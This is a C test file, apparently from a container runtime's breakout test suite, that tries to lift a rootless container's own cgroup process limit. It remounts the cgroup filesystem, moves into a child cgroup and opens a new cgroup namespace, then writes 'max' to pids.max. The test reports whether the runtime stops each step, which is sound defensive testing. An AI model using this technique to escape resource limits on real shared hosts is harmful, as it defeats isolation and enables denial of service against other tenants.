/**
 * @file
 * @brief unlimit: the container lifts its own limits, from one step below.
 *
 * If an ordinary user starts a container, its root is that user outside, and
 * owns the files of its cgroup. They are mounted read-only, but root with
 * CAP_SYS_ADMIN can remount them. Then one thing is left in the way: with the
 * mount option nsdelegate, nobody can write the limits of the cgroup that is
 * the root of their own cgroup namespace. So the container makes a cgroup
 * below, enters it, and makes a second namespace there. Now its limits are
 * those of another cgroup than the root, and it can write them.
 *
 * Where an ordinary user can start the container, one does: if root does, the
 * files belong to somebody else.
 */
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "tests/attacks/breakouts/breakout.h"

/* Our own cgroup in the tree that we see. */
static void find_own(char *path, size_t size)
{
    char line[256] = "0::/\n";
    FILE *file = fopen("/proc/self/cgroup", "re");

    if (file && fgets(line, sizeof(line), file))
        fclose(file);
    line[strcspn(line, "\n")] = '\0';
    snprintf(path, size, "/sys/fs/cgroup%s", line[4] ? line + 3 : "");
}

/* There may have been no limit to begin with. */
static int is_max(const char *path)
{
    char text[16] = "";
    FILE *file = fopen(path, "re");

    if (file && fgets(text, sizeof(text), file))
        fclose(file);
    return strcmp(text, "max\n") == 0;
}

BREAKOUT(unlimit)
{
    char own[512], below[600], procs[640], limit[640];

    find_own(own, sizeof(own));
    snprintf(below, sizeof(below), "%s/below", own);
    snprintf(procs, sizeof(procs), "%s/cgroup.procs", below);
    snprintf(limit, sizeof(limit), "%s/pids.max", own);
    mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);
    if (mkdir(below, 0755) < 0)
        return stopped(below);
    if (put(procs, "0") < 0)
        return stopped(procs);
    unshare(CLONE_NEWCGROUP);
    if (put(limit, "max") < 0 && !is_max(limit))
        return stopped(limit);
    show(limit);
    return linger();
}
